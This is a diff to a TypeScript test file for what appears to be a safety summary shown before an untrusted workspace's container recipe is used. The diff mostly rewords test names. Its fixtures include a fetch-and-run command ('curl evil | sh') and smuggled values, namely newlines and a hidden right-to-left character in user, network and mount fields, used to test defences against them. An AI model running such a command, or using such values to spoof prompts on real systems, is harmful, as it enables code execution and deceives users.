@@ -13,8 +13,8 @@ function lines(args: Partial<CreateArguments>): readonly string[] | undefined {
   return recipeSummary({ image: 'busybox', ...args }, isInside, english);
 }
 
-describe('the question before the recipe of an untrusted workspace', () => {
-  it('says all that reaches out of the container, the dangerous first', () => {
+describe('the question before a recipe of an untrusted workspace is used', () => {
+  it('lists all access to the host, most dangerous first', () => {
     const shown = lines({
       cmd: ['sh', '-c', 'curl evil | sh'],
       entrypoint: ['/bin/x'],
@@ -82,24 +82,28 @@ describe('the question before the recipe of an untrusted workspace', () => {
   });
 
   const refused: Readonly<Record<string, Partial<CreateArguments>>> = {
-    'more mounts from outside than fit': {
+    'there are more outside mounts than fit': {
       mounts: Array.from({ length: 30 }, (_, at) => `/etc/${at}:/m/${at}`),
     },
-    'more volumes than fit': { mounts: Array.from({ length: 30 }, (_, at) => `vol${at}:/m/${at}`) },
-    'a mount that is longer than a line': { mounts: [`/etc/${'x'.repeat(200)}:/x`] },
-    'a mount with line ends': { mounts: [`/etc${'\n'.repeat(3000)}:/x`] },
-    'a mount that is not shown as it is': { mounts: ['/etc\u202e/x:/x'] },
-    'more ports than fit': { ports: Array.from({ length: 60 }, (_, at) => `${8000 + at}:80`) },
-    'a user with a line end': { user: '0\nNothing else' },
-    'a network with a line end': { network: 'a\nb' },
+    'there are more volumes than fit': {
+      mounts: Array.from({ length: 30 }, (_, at) => `vol${at}:/m/${at}`),
+    },
+    'a mount is longer than a line': { mounts: [`/etc/${'x'.repeat(200)}:/x`] },
+    'a mount contains line breaks': { mounts: [`/etc${'\n'.repeat(3000)}:/x`] },
+    'a mount contains hidden characters': { mounts: ['/etc\u202e/x:/x'] },
+    'there are more ports than fit': {
+      ports: Array.from({ length: 60 }, (_, at) => `${8000 + at}:80`),
+    },
+    'the user contains a line break': { user: '0\nNothing else' },
+    'the network contains a line break': { network: 'a\nb' },
   };
   for (const [what, args] of Object.entries(refused)) {
-    it(`is not asked of ${what}`, () => {
+    it(`is not shown if ${what}`, () => {
       assert.equal(lines(args), undefined);
     });
   }
 
-  describe('takes a mount for one from the folder', () => {
+  describe('treats a mount as inside the workspace folder', () => {
     let root: string;
     let folder: string;
     beforeEach(() => {
@@ -112,7 +116,7 @@ describe('the question before the recipe of an untrusted workspace', () => {
       rmSync(root, { recursive: true, force: true });
     });
 
-    it('only if it really leads there', async () => {
+    it('only if its real path is', async () => {
       const sources = [
         'data',
         'new/one',
